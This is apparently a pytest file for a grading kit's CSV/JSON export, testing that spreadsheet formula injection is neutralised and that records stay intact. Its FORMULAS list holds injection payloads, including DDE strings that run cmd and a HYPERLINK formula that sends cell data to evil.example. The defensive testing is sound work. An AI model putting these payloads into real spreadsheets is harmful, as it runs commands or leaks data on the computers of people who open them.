"""What leaves the kit is whole, can be read elsewhere, and runs nothing there."""

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest

from kit.errors import CannotStart
from kit.marking.export.export_files import ATTEMPT_COLUMNS, EVENT_COLUMNS, export
from kit.marking.export.spreadsheets import csv_text, safe_cell
from kit.marking.records.events import Answered, HandedIn, Marked, Overridden
from kit.marking.records.store import append_event, record_path

NOON = datetime(2026, 11, 22, 12, 0, 0, tzinfo=UTC)

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"see")',
    '=DDE("cmd";"/C calc";"x")',
    " =1+1",
    "\u00a0\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tharmless",
    "\rharmless",
]


def keep(
    workspace: Path, agent: str, *, reply: str = "Hello", reason: str = ""
) -> None:
    """Let an agent hand in and be marked; and overridden, if there is a reason."""
    place = {"agent": agent, "at": NOON}
    one = {"exercise": "sizes", "attempt": "attempt-1"}
    desk = {"work": "sizes/attempt-1", "case": "one"}
    marked = {"percent": 70, "passed": False, "dimensions": {"policy": 60}}
    page = {"critical": ["one"], "report": "reports/a.html"}
    append_event(workspace, Answered(**place, **desk, question="reply", value=reply))
    append_event(workspace, HandedIn(**place, **one, answers={}))
    append_event(workspace, Marked(**place, **one, **marked, **page))
    if reason:
        by = {"by": "lead-1", "percent": 82, "passed": True}
        append_event(workspace, Overridden(**place, **one, **by, reason=reason))


def rows(path: Path) -> list[dict[str, str]]:
    """Read a table as another program does."""
    text = path.read_bytes().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_no_text_begins_like_a_formula(text):
    """An agent's reply must not start a program on the supervisor's computer."""
    cell = safe_cell(text)

    assert cell == f"'{text}" or (
        cell[0] == "'" and cell[1:].replace("'", "", 1) == text
    )


@pytest.mark.parametrize("text", ["Hello", "a=b", "3 - 2", "E-mail @ work", "", "'="])
def test_other_text_stays_as_it_was(text):
    """A table that changes what was written is of no use as evidence."""
    cell = safe_cell(text)

    assert cell == text


def test_a_cell_behind_a_semicolon_or_a_new_line_runs_nothing_either():
    """In half of Europe a spreadsheet takes semicolons for the borders of cells."""
    cells = [safe_cell(each) for each in ("x;=1+1", "x\n=1+1", "x\t @SUM(1)")]

    assert cells == ["x;'=1+1", "x\n'=1+1", "x\t' @SUM(1)"]


def test_numbers_that_the_kit_counts_stay_numbers():
    """A supervisor adds up percents; text cannot be added up."""
    text = csv_text(("a", "b", "c"), [{"a": -5, "b": 0, "c": "-5"}])

    assert text == "a,b,c\r\n-5,0,'-5\r\n"


def test_a_table_has_a_row_for_each_attempt_with_what_counts(tmp_path):
    """What a supervisor has set by hand counts; what the kit found stands beside it."""
    keep(tmp_path, "ana-1", reason="=1+1")
    keep(tmp_path, "ben-2")

    done = export(tmp_path, tmp_path / "a.csv", agent=None, each_event=False)

    ana, ben = rows(tmp_path / "a.csv")
    assert (done.count, done.problems) == (2, ())
    assert tuple(ana) == ATTEMPT_COLUMNS
    assert (ana["percent"], ana["passed"], ana["marked_percent"]) == ("82", "yes", "70")
    assert (ana["overridden_by"], ana["reason"]) == ("lead-1", "'=1+1")
    assert (ben["percent"], ben["passed"], ben["policy"]) == ("70", "no", "60")
    assert ben["critical"] == "one"


def test_a_table_says_where_the_exam_was_known(tmp_path):
    """A pass after a mark was read is not the same as one before it."""
    keep(tmp_path, "ana-1")
    again = {"agent": "ana-1", "at": NOON, "exercise": "sizes", "attempt": "attempt-9"}
    append_event(tmp_path, HandedIn(**again, answers={"one": {"action": "wait"}}))

    export(tmp_path, tmp_path / "a.csv", agent=None, each_event=False)

    first, *_, last = rows(tmp_path / "a.csv")
    assert (first["exam_known"], last["exam_known"]) == ("no", "yes")


def test_a_table_can_have_a_row_for_each_event(tmp_path):
    """Several lines, quotes and signs of any script come back as they were typed."""
    reply = 'Hello "Zoë",\r\n退货; is fine 😀\nbye'.replace("\r\n", "\n")
    keep(tmp_path, "ana-1", reply=reply)

    export(tmp_path, tmp_path / "a.csv", agent=None, each_event=True)

    found = rows(tmp_path / "a.csv")
    assert tuple(found[0]) == EVENT_COLUMNS
    assert [each["event"] for each in found] == ["answered", "handed-in", "marked"]
    assert found[0]["value"] == reply
    assert (tmp_path / "a.csv").read_bytes().startswith(b"\xef\xbb\xbfagent,")


@pytest.mark.parametrize("ending", ["json", "jsonl"])
def test_statements_go_into_one_list_or_one_line_each(ending, tmp_path):
    """Stores take the one, tools that read line by line the other."""
    keep(tmp_path, "ana-1")
    path = tmp_path / f"a.{ending}"

    export(tmp_path, path, agent=None, each_event=False)
    first = path.read_bytes()
    export(tmp_path, path, agent=None, each_event=False)

    text = path.read_text(encoding="utf-8")
    lines = text.splitlines()
    said = (
        json.loads(text) if ending == "json" else [json.loads(each) for each in lines]
    )
    assert [each["verb"]["display"]["en"] for each in said] == [
        "answered",
        "submitted",
        "scored",
    ]
    assert path.read_bytes() == first


def test_one_agent_is_exported_alone(tmp_path):
    """Who asks for one agent does not hand out the others."""
    keep(tmp_path, "ana-1")
    keep(tmp_path, "ben-2")

    export(tmp_path, tmp_path / "a.csv", agent="ben-2", each_event=False)

    assert [each["agent"] for each in rows(tmp_path / "a.csv")] == ["ben-2"]


def test_a_damaged_file_is_named_and_stops_no_other(tmp_path):
    """Nobody waits for somebody else's broken file."""
    keep(tmp_path, "ana-1")
    keep(tmp_path, "eve-3")
    path = record_path(tmp_path, "eve-3")
    path.write_bytes(path.read_bytes().replace(b"attempt-1", b"attempt-9"))

    done = export(tmp_path, tmp_path / "a.csv", agent=None, each_event=False)

    assert [each["agent"] for each in rows(tmp_path / "a.csv")] == ["ana-1"]
    assert "eve-3.jsonl:1:" in done.problems[0]


@pytest.mark.parametrize(
    "name", ["a.xlsx", "a", "nowhere/a.csv", "records/ana-1.jsonl"]
)
def test_a_file_that_cannot_be_meant_is_refused(name, tmp_path):
    """Above all the records themselves are never written over."""
    keep(tmp_path, "ana-1")
    before = record_path(tmp_path, "ana-1").read_bytes()

    with pytest.raises(CannotStart):
        export(tmp_path, tmp_path / name, agent=None, each_event=False)

    assert record_path(tmp_path, "ana-1").read_bytes() == before
